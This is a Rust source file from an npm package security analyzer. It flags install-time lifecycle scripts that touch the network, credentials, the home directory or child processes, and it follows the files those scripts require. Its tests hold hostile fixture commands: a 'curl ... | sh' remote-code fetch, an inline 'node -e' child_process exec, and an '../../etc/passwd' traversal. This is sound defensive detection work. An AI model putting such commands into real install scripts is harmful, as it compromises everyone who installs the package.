//! Install-time scripts: `preinstall`, `install`, `postinstall` and `prepare` run code on every
//! machine that installs the package. Each one is a note; it is an error when the command, or
//! the JavaScript file it runs (and the local files that one requires), touches the network, the
//! environment, the home directory, credential files, host facts or child processes.

use std::collections::{BTreeSet, VecDeque};
use std::sync::LazyLock;

use regex::Regex;
use tarsier_model::Severity;

use crate::caps::{self, Cap, Hit};
use crate::rule_ids::INSTALL_SCRIPT;
use crate::{Ctx, text};

/// The lifecycle scripts npm runs at install time.
pub const INSTALL_HOOKS: &[&str] = &["preinstall", "install", "postinstall", "prepare"];

/// Local files followed from the script's entry file at most.
const MAX_FOLLOWED_FILES: usize = 16;
/// Distinct constructs remembered per script at most.
const MAX_FOUND: usize = 64;

static NODE_FILE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?:^|[\s;&|(])node(?:\.exe)?((?:\s+-{1,2}[\w-]+(?:=\S+)?)*)\s+['"]?([^\s'";&|)]+)"#,
    )
    .unwrap_or_else(|_| never())
});

static INLINE_NODE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"\bnode\s+(?:-e|--eval|-p|--print)\s+(?:'([^']*)'|"((?:[^"\\]|\\.)*)")"#)
        .unwrap_or_else(|_| never())
});

static LOCAL_REQUIRE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:require\s*\(|import\s*\(|from)\s*['"](\.{1,2}/[^'"]+)['"]"#)
        .unwrap_or_else(|_| never())
});

fn never() -> Regex {
    Regex::new(r"[^\s\S]").unwrap_or_else(|_| unreachable!())
}

/// The package files a script command runs with `node <file>`, resolved like `require`.
pub fn script_files(command: &str, has: impl Fn(&str) -> bool) -> Vec<String> {
    let mut out = Vec::new();
    for c in NODE_FILE.captures_iter(command) {
        let Some(arg) = c.get(2).map(|m| m.as_str()) else {
            continue;
        };
        if let Some(path) = resolve("", arg, &has)
            && !out.contains(&path)
        {
            out.push(path);
        }
    }
    out
}

/// Resolves `spec` relative to the directory `dir` (both `/`-separated, package-relative) to an
/// existing file: as is, with `.js`/`.cjs`/`.mjs`, or as a directory's `index.js`.
fn resolve(dir: &str, spec: &str, has: &impl Fn(&str) -> bool) -> Option<String> {
    let mut parts: Vec<&str> = dir.split('/').filter(|p| !p.is_empty()).collect();
    for part in spec.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop()?;
            }
            p => parts.push(p),
        }
    }
    let base = parts.join("/");
    [
        base.clone(),
        format!("{base}.js"),
        format!("{base}.cjs"),
        format!("{base}.mjs"),
        format!("{base}/index.js"),
    ]
    .into_iter()
    .find(|candidate| has(candidate))
}

/// One capability, where it was found.
struct Found {
    cap: Cap,
    what: String,
    place: String,
}

pub(crate) fn check(ctx: &mut Ctx<'_, '_>) {
    for hook in INSTALL_HOOKS {
        let Some(command) = ctx.package.script(hook).map(str::to_owned) else {
            continue;
        };
        let mut found: Vec<Found> = Vec::new();
        let mut push = |hits: Vec<Hit>, place: &dyn Fn(&Hit) -> String| {
            // The first occurrence of each construct is enough to explain the finding.
            for h in hits {
                if found.len() < MAX_FOUND && !found.iter().any(|f| f.what == h.what) {
                    found.push(Found {
                        cap: h.cap,
                        place: place(&h),
                        what: h.what,
                    });
                }
            }
        };
        push(caps::scan_shell(&command), &|_| "the command".to_owned());
        for c in INLINE_NODE.captures_iter(&command) {
            let code = c.get(1).or_else(|| c.get(2)).map_or("", |m| m.as_str());
            push(caps::scan_js(code), &|_| "the inline code".to_owned());
        }
        // The files it runs, and the local files those require, breadth first.
        let has = |p: &str| ctx.package.file(p).is_some();
        let mut queue: VecDeque<String> = script_files(&command, has).into();
        let mut seen: BTreeSet<String> = queue.iter().cloned().collect();
        let mut followed = Vec::new();
        while let Some(path) = queue.pop_front() {
            if followed.len() >= MAX_FOLLOWED_FILES {
                break;
            }
            let Some(code) = ctx.text(&path) else {
                continue;
            };
            followed.push(path.clone());
            let lines = text::LineIndex::new(code);
            push(caps::scan_js(code), &|h| {
                format!("{path}:{}", lines.line(h.start))
            });
            let dir = path.rsplit_once('/').map_or("", |(d, _)| d);
            for c in LOCAL_REQUIRE.captures_iter(code) {
                if let Some(next) = c.get(1).and_then(|spec| resolve(dir, spec.as_str(), &has))
                    && seen.insert(next.clone())
                {
                    queue.push_back(next);
                }
            }
        }

        let runs = if followed.is_empty() {
            String::new()
        } else {
            format!(" (runs {})", followed.join(", "))
        };
        // npm runs `prepare` for git and local installs, not for a registry tarball.
        let when = if *hook == "prepare" {
            " (npm runs it for git and local installs, not from the registry)"
        } else {
            ""
        };
        let (severity, message) = if found.is_empty() {
            (
                Severity::Note,
                format!(
                    "{} has an install-time `{hook}` script: `{}`{runs}{when}",
                    ctx.package.spec(),
                    text::truncate(&command, 120)
                ),
            )
        } else {
            let kinds: BTreeSet<Cap> = found.iter().map(|f| f.cap).collect();
            let kinds: Vec<&str> = kinds.into_iter().map(Cap::describe).collect();
            let examples: Vec<String> = found
                .iter()
                .take(6)
                .map(|f| format!("{} at {}", f.what, f.place))
                .collect();
            (
                Severity::Error,
                format!(
                    "{}'s install-time `{hook}` script `{}`{runs} touches {}: {}",
                    ctx.package.spec(),
                    text::truncate(&command, 120),
                    kinds.join(", "),
                    examples.join("; ")
                ),
            )
        };
        let key = format!("\"{hook}\"");
        ctx.report_manifest(
            INSTALL_SCRIPT,
            severity,
            message,
            Some((&key, Some("\"scripts\""))),
            &format!("{hook}: {command}"),
        );
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use crate::{Options, PackageInput, analyze};

    fn run(files: &[(&str, &[u8])]) -> Vec<tarsier_model::Finding> {
        let p = PackageInput::from_files("pkg", "1.0.0", files).unwrap();
        analyze(&p, None, &Options::default())
            .findings
            .into_iter()
            .filter(|f| f.rule_id == INSTALL_SCRIPT)
            .collect()
    }

    #[test]
    fn resolves_script_files() {
        let has = |p: &str| ["setup.js", "lib/index.js", "scripts/x.cjs"].contains(&p);
        assert_eq!(script_files("node setup", has), vec!["setup.js"]);
        assert_eq!(
            script_files("node ./lib && node scripts/x.cjs", has),
            vec!["lib/index.js", "scripts/x.cjs"]
        );
        assert_eq!(
            script_files("node --no-warnings ./setup.js", has),
            vec!["setup.js"]
        );
        assert!(script_files("node-gyp rebuild", has).is_empty());
        assert!(script_files("node ../../etc/passwd", has).is_empty());
    }

    #[test]
    fn a_plain_script_is_a_note_at_its_key() {
        let manifest = b"{\n  \"name\": \"pkg\",\n  \"scripts\": {\n    \"test\": \"x\",\n    \"install\": \"node-gyp rebuild\"\n  }\n}";
        let got = run(&[("package.json", manifest)]);
        assert_eq!(got.len(), 1);
        assert_eq!(got[0].severity, Severity::Note);
        assert_eq!(got[0].span.start_line, 5);
        assert_eq!(got[0].matched_text, "install: node-gyp rebuild");
        assert!(got[0].message.contains("`install`"), "{}", got[0].message);
    }

    #[test]
    fn follows_the_script_file_and_its_requires() {
        let manifest = br#"{"name": "pkg", "scripts": {"postinstall": "node scripts/setup"}}"#;
        let got = run(&[
            ("package.json", manifest),
            ("scripts/setup.js", b"require('./lib/send');\n"),
            (
                "scripts/lib/send.js",
                b"const os = require('os');\nmodule.exports = os.homedir();\n",
            ),
        ]);
        assert_eq!(got.len(), 1);
        assert_eq!(got[0].severity, Severity::Error);
        assert!(
            got[0]
                .message
                .contains("os.homedir() at scripts/lib/send.js:2"),
            "{}",
            got[0].message
        );
    }

    #[test]
    fn shell_and_inline_code_are_checked() {
        let manifest = br#"{"scripts": {"preinstall": "curl -s https://x.invalid/a | sh"}}"#;
        let got = run(&[("package.json", manifest)]);
        assert_eq!(got[0].severity, Severity::Error);
        assert!(got[0].message.contains("the network"));
        let manifest =
            br#"{"scripts": {"install": "node -e \"require('child_process').exec('id')\""}}"#;
        let got = run(&[("package.json", manifest)]);
        assert_eq!(got[0].severity, Severity::Error, "{}", got[0].message);
        assert!(got[0].message.contains("child processes"));
    }

    #[test]
    fn no_scripts_no_finding() {
        let manifest = br#"{"name": "pkg", "scripts": {"test": "node test.js"}}"#;
        assert!(run(&[("package.json", manifest)]).is_empty());
    }
}
